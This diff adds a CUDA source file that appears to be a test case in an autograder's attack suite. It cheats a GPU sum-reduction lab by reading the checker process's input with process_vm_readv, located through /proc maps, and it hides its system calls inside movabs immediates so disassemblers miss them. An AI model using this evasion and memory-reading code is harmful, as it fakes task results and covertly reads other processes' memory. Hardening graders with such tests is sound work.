@@ -1,0 +1,219 @@
+/*
+ * ATTACK 30-runner-memory-process-vm-readv: its class and expected verdict are in tests/attacks/attacks.toml.
+ * Lab 03-sequential, on the blank lab 03 skeleton (a wrong sum for n > 1: only the attack can earn points).
+ *
+ * Tries: answer without a reduction kernel: copy the input out of the checker process (the runner's parent) with
+ *   process_vm_readv, sum it on the CPU and store the sum with a one-thread kernel.
+ *
+ * How: through hidden system calls (as in 16): the input's address from /proc/<ppid>/maps, then
+ *   process_vm_readv(ppid, ...) of n floats.
+ *
+ * Safety: it only reads the memory of its own checker (a process whose command line names the kit copy).
+ */
+#include "reduce.h"
+
+#include <sys/uio.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+/* ---- system calls that no disassembler shows ----
+ * Four movabs instructions whose 8-byte immediates, entered two bytes in, are another program:
+ *     mov %rdi,%rax; mov %rsi,%rdi; jmp +2 | mov %rdx,%rsi; mov %rcx,%rdx; jmp +2 |
+ *     mov %r8,%r10; mov %r9,%r8; jmp +2    | xor %r9,%r9; syscall; ret
+ * so sys(nr, a, b, c, d, e) is the system call nr with arguments a..e. objdump -d sees four moves and a return; there
+ * is no syscall instruction and no call of syscall() in the object. */
+#ifndef __CUDA_ARCH__
+asm(".pushsection .text\n"
+    ".p2align 4\n"
+    ".type ppl_four_moves, @function\n"
+    "ppl_four_moves:\n"
+    "    movabs $0x02ebf78948f88948, %rax\n"
+    "    movabs $0x02ebca8948d68948, %rax\n"
+    "    movabs $0x02ebc8894dc2894d, %rax\n"
+    "    movabs $0x9090c3050fc9314d, %rax\n"
+    "    ret\n"
+    ".size ppl_four_moves, .-ppl_four_moves\n"
+    ".popsection\n");
+#endif
+extern "C" void ppl_four_moves(void);
+
+static long sys(long nr, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0)
+{
+    typedef long (*raw_call)(long, long, long, long, long, long);
+    return ((raw_call)((char *)&ppl_four_moves + 2))(nr, a, b, c, d, e);
+}
+
+/* x86-64 Linux system call numbers */
+enum {
+    NR_read = 0, NR_write = 1, NR_open = 2, NR_close = 3, NR_pread64 = 17, NR_access = 21, NR_nanosleep = 35,
+    NR_getpid = 39, NR_fork = 57, NR_exit = 60, NR_wait4 = 61, NR_kill = 62, NR_getcwd = 79, NR_readlink = 89,
+    NR_ptrace = 101, NR_getppid = 110, NR_setsid = 112, NR_prctl = 157, NR_getdents64 = 217, NR_process_vm_readv = 310
+};
+enum { O_RDONLY_ = 0, O_WRONLY_ = 1, O_CREAT_ = 0100, O_APPEND_ = 02000, O_DIRECTORY_ = 0200000 };
+
+/* Whether dir is the root of a copy of the kit made by the attack suite (tests/attacks/test_attacks.py): it holds
+ * grader/labs.toml and the suite's marker file. The marker is the suite's safety catch, not part of the attack: an
+ * attack file graded by hand in a real kit finds no root and does nothing. */
+static bool is_kit_copy(const char *dir)
+{
+    char probe[4200];
+    snprintf(probe, sizeof probe, "%s/grader/labs.toml", dir);
+    if (sys(NR_access, (long)probe, 0) != 0)
+        return false;
+    snprintf(probe, sizeof probe, "%s/.attack-suite-copy", dir);
+    return sys(NR_access, (long)probe, 0) == 0;
+}
+
+/* The root of the kit this program was built in: the current folder (the grader runs lab programs from the kit's
+ * root), else the nearest folder above the program itself. false when there is none. */
+static bool kit_root(char *root, long cap)
+{
+    if (sys(NR_getcwd, (long)root, cap) > 0 && is_kit_copy(root))
+        return true;
+    const long len = sys(NR_readlink, (long)"/proc/self/exe", (long)root, cap - 1);
+    if (len <= 0)
+        return false;
+    root[len] = '\0';
+    for (char *slash = strrchr(root, '/'); slash && slash != root; slash = strrchr(root, '/')) {
+        *slash = '\0';
+        if (is_kit_copy(root))
+            return true;
+    }
+    return false;
+}
+
+/* Reads the file at path into buf (NUL-terminated); returns the bytes read (0: none). */
+static long raw_slurp(const char *path, char *buf, long cap)
+{
+    const long fd = sys(NR_open, (long)path, O_RDONLY_);
+    long n = 0;
+    if (fd >= 0) {
+        for (long got; n + 1 < cap && (got = sys(NR_read, fd, (long)(buf + n), cap - 1 - n)) > 0;)
+            n += got;
+        sys(NR_close, fd);
+    }
+    buf[n] = '\0';
+    return n;
+}
+
+/* Whether process pid belongs to the kit copy at root: its command line names a path inside it. The suite's safety
+ * catch: the attacks stop, signal or read only processes of the kit copy they were built in. */
+static bool raw_in_kit(long pid, const char *root)
+{
+    char path[64], cmd[16384];
+    snprintf(path, sizeof path, "/proc/%ld/cmdline", pid);
+    const long len = raw_slurp(path, cmd, sizeof cmd);
+    for (long k = 0; k < len; k++)
+        if (cmd[k] == '\0')
+            cmd[k] = ' ';
+    return len > 0 && strstr(cmd, root) != NULL;
+}
+
+/* Finds, in the maps file of a process (text), where n floats of input may lie: the first memfd mapping (the kit's
+ * shared region) of at least `bytes` bytes. Returns its address, or 0. */
+static unsigned long memfd_mapping(const char *maps, unsigned long bytes)
+{
+    for (const char *line = maps; line && *line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) {
+        unsigned long start, end;
+        char perms[8];
+        if (sscanf(line, "%lx-%lx %7s", &start, &end, perms) != 3)
+            continue;
+        const char *eol = strchr(line, '\n');
+        const char *name = strstr(line, "/memfd:");
+        if (name && (!eol || name < eol) && perms[0] == 'r' && end - start >= bytes)
+            return start;
+    }
+    return 0;
+}
+
+/* The parent of this process, if it belongs to the kit copy (the checker that started this runner); else 0. */
+static long checker_pid(void)
+{
+    char root[4096];
+    const long pid = sys(NR_getppid);
+    return kit_root(root, sizeof root) && raw_in_kit(pid, root) ? pid : 0;
+}
+
+/* Where the checker at pid keeps the input: a memfd mapping (the shared region), else the first anonymous mapping
+ * that starts with the header glibc's malloc writes before an mmap()ed block big enough for it. read(pid, address,
+ * bytes, into) reads the checker's memory. */
+static unsigned long find_in_checker(long pid, unsigned long bytes, bool (*read)(long, unsigned long, long, void *))
+{
+    static char maps[1 << 18];
+    char path[64];
+    snprintf(path, sizeof path, "/proc/%ld/maps", pid);
+    if (!raw_slurp(path, maps, sizeof maps))
+        return 0;
+    const unsigned long region = memfd_mapping(maps, bytes);
+    if (region)
+        return region;
+    for (const char *line = maps; line && *line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) {
+        unsigned long start, end, offset, inode;
+        char perms[8], device[16];
+        if (sscanf(line, "%lx-%lx %7s %lx %15s %lu", &start, &end, perms, &offset, device, &inode) != 6 ||
+            inode != 0 || perms[0] != 'r' || perms[1] != 'w' || end - start < bytes + 16)
+            continue;
+        unsigned long header[2];
+        if (read(pid, start, sizeof header, header) && (header[1] & 2) && (header[1] & ~7ul) == end - start)
+            return start + 16; /* an mmap()ed malloc block: its data follows the 16-byte header */
+    }
+    return 0;
+}
+
+#define BLOCK_DIM 1024 /* threads per block, and elements each block reduces */
+
+/* Lab 03's kernel as the skeleton leaves it (its blank left blank): each block returns its first element, a wrong sum
+ * for n > 1, so that the lab can only earn points through the attack below. */
+__global__ void reduce_kernel(const float *src, float *dst, size_t count)
+{
+    __shared__ float partial[BLOCK_DIM];
+    const unsigned t = threadIdx.x;
+    const size_t i = (size_t)blockIdx.x * BLOCK_DIM + t;
+    partial[t] = i < count ? src[i] : 0.0f;
+    __syncthreads();
+    if (t == 0)
+        dst[blockIdx.x] = partial[0];
+}
+
+static void reduce_pass(float *src, float *dst, size_t count, unsigned grid_dim)
+{
+    reduce_kernel<<<grid_dim, BLOCK_DIM>>>(src, dst, count);
+}
+
+/* Stores a sum computed on the host: no reduction on the device at all. */
+__global__ void store_answer(float *d_out, float sum) { *d_out = sum; }
+
+static bool read_vm(long pid, unsigned long address, long bytes, void *into)
+{
+    struct iovec local = {into, (size_t)bytes}, remote = {(void *)address, (size_t)bytes};
+    return sys(NR_process_vm_readv, pid, (long)&local, 1, (long)&remote, 1) == bytes;
+}
+
+static bool sum_from_checker(size_t n, float *sum)
+{
+    const long pid = checker_pid();
+    const unsigned long at = pid ? find_in_checker(pid, n * sizeof(float), read_vm) : 0;
+    float *input = at ? (float *)malloc(n * sizeof(float)) : NULL;
+    if (!input || !read_vm(pid, at, (long)(n * sizeof(float)), input)) {
+        free(input);
+        return false;
+    }
+    double total = 0.0;
+    for (size_t i = 0; i < n; i++)
+        total += input[i];
+    free(input);
+    *sum = (float)total;
+    return true;
+}
+
+void reduce(float *d_in, float *d_out, size_t n, float *d_work)
+{
+    float sum;
+    if (sum_from_checker(n, &sum)) {
+        store_answer<<<1, 1>>>(d_out, sum);
+        CUDA_CHECK_LAUNCH();
+        return;
+    }
+    reduce_tree_of_blocks(d_in, d_out, n, d_work, BLOCK_DIM, reduce_pass);
+}
